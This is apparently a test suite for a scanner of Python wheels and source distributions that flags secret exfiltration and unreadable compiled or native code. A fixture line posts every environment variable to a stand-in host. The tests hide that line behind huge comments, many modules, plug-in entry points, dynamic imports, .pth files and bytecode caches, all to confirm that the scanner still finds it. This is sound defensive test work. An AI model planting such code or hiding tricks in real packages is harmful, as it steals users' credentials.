import t from 'tap'
import { inspect } from '../../src/inspection/inspect.ts'
import { sha256 } from '../../src/model/digest.ts'
import type { ArchiveReading } from '../../src/archive/reading.ts'
import { readingOf } from './python-reading.ts'

const SEND =
  'import json, os, urllib.request\nurllib.request.urlopen("https://c.invalid", data=json.dumps(dict(os.environ)).encode())\n'
const COMMENT = '# pad pad pad pad pad pad pad pad pad pad pad pad\n'
const COMPILED = Buffer.from([0xa7, 0x0d, 0x0d, 0x0a, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xe3]).toString('latin1')
const HASHED = COMPILED.replace('\n\0', '\n\u0001')
const NATIVE = '\x7fELF\x02\x01'

/** A module that does a little of everything, and is worth a syntax tree. */
const busy = (lines: number, environment = (n: number) => `os.environ.get("X${n}", "")`): string =>
  'import os, requests, subprocess, base64\n' +
  Array.from(
    { length: lines },
    (_, n) =>
      `def f${n}(a):\n    r = requests.get("https://api.invalid/" + a + ${environment(n)})\n    return base64.b64decode(r.content)\n`,
  ).join('')

const many = (count: number, text: (n: number) => string): Record<string, string> =>
  Object.fromEntries(Array.from({ length: count }, (_, n) => [`a/m${n}.py`, text(n)]))

interface Case {
  readonly name: string
  readonly kind: 'wheel' | 'sdist'
  readonly files: Readonly<Record<string, string>>
  /** `check severity`; of what is found, or of what is said to be unread */
  readonly want: readonly string[]
}

const READ: readonly Case[] = [
  {
    name: 'behind a comment of two megabytes',
    kind: 'wheel',
    files: { 'a.py': COMMENT.repeat(40_000) + SEND },
    want: ['secrets-exfiltration critical'],
  },
  {
    name: 'behind an indented block and comments',
    kind: 'wheel',
    files: { 'a.py': `if 1:\n    x = 1\n${COMMENT.repeat(3000)}${SEND}` },
    want: ['secrets-exfiltration critical'],
  },
  {
    name: 'in a small module behind large busy ones',
    kind: 'wheel',
    files: {
      'a/__init__.py': Array.from({ length: 20 }, (_, n) => `from . import m${n}\n`).join('') + 'from . import z\n',
      ...many(20, () => busy(2500, () => 'str(len(os.environ))')),
      'a/z.py': SEND,
    },
    // of the busy ones, that they do more once they are called than is kept
    want: ['secrets-exfiltration critical', 'not-examined medium', 'not-examined low'],
  },
  {
    name: 'in a package that is imported beside many plug-ins',
    kind: 'wheel',
    files: {
      'a/__init__.py': SEND,
      ...many(40, () => busy(800)),
      'a-1.dist-info/entry_points.txt':
        '[pytest11]\n' + Array.from({ length: 40 }, (_, n) => `p${n} = a.m${n}\n`).join(''),
    },
    want: ['secrets-exfiltration critical'],
  },
  {
    name: 'in the last of 900 modules',
    kind: 'wheel',
    files: {
      'a/__init__.py': Array.from({ length: 900 }, (_, n) => `from . import m${n}\n`).join(''),
      ...many(900, (n) => (n === 899 ? SEND : 'import os\n')),
    },
    want: ['secrets-exfiltration critical'],
  },
]

const REACHED: readonly [situation: string, init: string][] = [
  ['import_module', 'import importlib\nimportlib.import_module(".core", __name__)\n'],
  ['import_module by the whole name', 'from importlib import import_module\nimport_module("a.core")\n'],
  ['__import__', '__import__("a.core")\n'],
  ['runpy', 'import runpy\nrunpy.run_module("a.core")\n'],
  ['runpy by its path', 'import runpy, os\nrunpy.run_path(os.path.join(os.path.dirname(__file__), "core.py"))\n'],
  [
    'a loader by path',
    'import importlib.util as u, os\nu.spec_from_file_location("x", os.path.dirname(__file__) + "/core.py").loader.load_module()\n',
  ],
  ['imp', 'import imp\nimp.load_source("x", "core.py")\n'],
  ['exec of its text', 'exec(open(__file__.replace("__init__", "core")).read() if 0 else open("core.py").read())\n'],
]

const FOLDER = {
  'setup.py': 'import sys\nsys.path.insert(0, "tools")\nimport core\nfrom setuptools import setup\nsetup()\n',
  'tools/core.py': SEND,
}

const UNREAD: readonly Case[] = [
  {
    name: 'more code than is read',
    kind: 'wheel',
    files: { 'a.py': `${SEND}x = [${'1, '.repeat(1_200_000)}]\n` },
    want: ['not-examined medium'],
  },
  {
    name: 'a package that is compiled',
    kind: 'wheel',
    files: { 'a/__init__.pyc': COMPILED },
    want: ['opaque-program medium'],
  },
  {
    name: 'a module that is compiled, and imported',
    kind: 'wheel',
    files: { 'a/__init__.py': 'from . import b\n', 'a/b.pyc': COMPILED },
    want: ['opaque-program medium'],
  },
  {
    name: 'a package that is native code',
    kind: 'wheel',
    files: { 'a/__init__.cpython-311-x86_64-linux-gnu.so': NATIVE },
    want: ['opaque-program medium'],
  },
  {
    name: 'a compiled module behind a .pth file',
    kind: 'wheel',
    files: { 'a.pth': 'import b\n', 'b.pyc': COMPILED },
    want: ['opaque-program high'],
  },
  {
    name: 'native code behind a .pth file',
    kind: 'wheel',
    files: { 'a.pth': 'import b\n', 'b.abi3.so': NATIVE },
    want: ['opaque-program high'],
  },
  {
    name: 'a compiled plug-in of pytest',
    kind: 'wheel',
    files: { 'a/__init__.py': '', 'a/p.pyc': COMPILED, 'a-1.dist-info/entry_points.txt': '[pytest11]\np = a.p\n' },
    want: ['opaque-program medium'],
  },
  {
    name: 'native code of a wheel that says it has none',
    kind: 'wheel',
    files: {
      'a/__init__.py': 'from . import b\n',
      'a/b.so': NATIVE,
      'a-1.dist-info/WHEEL': 'Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
    },
    want: ['opaque-program medium'],
  },
  {
    name: 'a compiled back end',
    kind: 'sdist',
    files: {
      'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "b"\nbackend-path = ["."]\n',
      'b.pyc': COMPILED,
    },
    want: ['opaque-program high'],
  },
  {
    name: 'a cache that Python takes in place of the source',
    kind: 'wheel',
    files: { 'a/__init__.py': '', 'a/__pycache__/__init__.cpython-311.pyc': HASHED },
    want: ['opaque-program medium'],
  },
  {
    name: 'a cache that a hash of the source holds for',
    kind: 'wheel',
    files: { 'a/__init__.py': '', 'a/__pycache__/__init__.cpython-311.pyc': COMPILED.replace('\n\0', '\n\u0003') },
    want: ['opaque-program medium'],
  },
  {
    name: 'a compiled module that nothing of the package imports',
    kind: 'wheel',
    files: { 'a/__init__.py': '', 'a/b.pyc': COMPILED },
    want: ['opaque-program medium'],
  },
  {
    name: 'a compiled file that is loaded by its path',
    kind: 'wheel',
    files: {
      'a/__init__.py':
        'import importlib.machinery as m\nm.SourcelessFileLoader("x", "a/__pycache__/x.pyc").load_module()\n',
      'a/__pycache__/x.pyc': COMPILED,
    },
    want: ['opaque-program medium'],
  },
  {
    name: 'a cache beside a module that setup.py loads, tied by its time',
    kind: 'sdist',
    files: { 'setup.py': 'import b\n', 'b.py': '', '__pycache__/b.cpython-311.pyc': COMPILED },
    want: ['opaque-program low'],
  },
  {
    name: 'a cache beside a back end',
    kind: 'sdist',
    files: {
      'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "t.b"\nbackend-path = ["."]\n',
      't/b.py': 'x = 1\n',
      't/__pycache__/b.cpython-311.pyc': COMPILED,
    },
    want: ['opaque-program low'],
  },
  {
    name: 'a cache beside a module that setup.py loads, tied by a hash',
    kind: 'sdist',
    files: { 'setup.py': 'import b\n', 'b.py': '', '__pycache__/b.cpython-311.pyc': HASHED },
    want: ['opaque-program high'],
  },
]

const ORDINARY: readonly Case[] = [
  {
    name: 'native code of a wheel for a machine',
    kind: 'wheel',
    files: {
      'a/__init__.py': 'from . import b\n',
      'a/b.cpython-311-x86_64-linux-gnu.so': NATIVE,
      'a-1.dist-info/WHEEL': 'Wheel-Version: 1.0\nRoot-Is-Purelib: false\n',
    },
    want: [],
  },
  {
    name: 'a cache beside its source',
    kind: 'wheel',
    files: { 'a/__init__.py': '', 'a/__pycache__/__init__.cpython-311.pyc': COMPILED },
    want: [],
  },
  {
    name: 'a cache of tests that no build loads',
    kind: 'sdist',
    files: {
      'setup.py': 'from setuptools import setup\nsetup()\n',
      'tests/a.py': '',
      'tests/__pycache__/a.cpython-311.pyc': COMPILED,
    },
    want: [],
  },
  {
    name: 'a cache without a source, compiled code beside its source, and a program',
    kind: 'wheel',
    files: {
      'a/__init__.py': '',
      'a/__pycache__/b.cpython-311.pyc': COMPILED,
      'a/c.py': '',
      'a/c.pyc': COMPILED,
      'a/__main__.pyc': COMPILED,
    },
    want: [],
  },
  {
    name: 'many constants',
    kind: 'wheel',
    files: {
      'a/__init__.py': Array.from({ length: 6 }, (_, n) => `from . import m${n}\n`).join(''),
      ...many(6, () => 'x = 1\n'.repeat(20_000)),
    },
    want: [],
  },
]

const bytesOf = (text: string): Buffer => Buffer.from(text, /[\x80-\xff]/.test(text) ? 'latin1' : 'utf8')

async function findings({ kind, files }: Pick<Case, 'kind' | 'files'>): Promise<string[]> {
  const plain = readingOf(kind, files)
  const reading: ArchiveReading = {
    ...plain,
    entries: plain.entries.map((entry) => Object.assign(entry, { content: bytesOf(files[entry.path] ?? '') })),
  }
  const facts = await inspect(reading, { digest: sha256('x'), readAs: kind === 'wheel' ? kind : 'sdist-gzip' })
  return facts.findings
    .filter(({ check }) => ['secrets-exfiltration', 'not-examined', 'opaque-program', 'check-failed'].includes(check))
    .map(({ check, severity }) => `${check} ${severity}`)
}

t.test('what an import reaches is read, whatever lies before it', async (t) => {
  for (const one of READ) t.same((await findings(one)).toSorted(), one.want.toSorted(), one.name)
})

t.test('what a package loads of itself in other ways runs as well', async (t) => {
  for (const [situation, init] of REACHED) {
    const files = { 'a/__init__.py': init, 'a/core.py': SEND }
    const facts = await findings({ kind: 'wheel', files })
    t.same(facts, ['secrets-exfiltration critical'], situation)
  }
  t.same(
    await findings({ kind: 'sdist', files: FOLDER }),
    ['secrets-exfiltration critical'],
    'from a folder that is put on the path',
  )
})

t.test('what cannot be read is said, with its moment', async (t) => {
  for (const one of UNREAD) t.same(await findings(one), one.want, one.name)
})

t.test('nothing is said of what packages ordinarily hold', async (t) => {
  for (const one of ORDINARY) t.same(await findings(one), one.want, one.name)
})
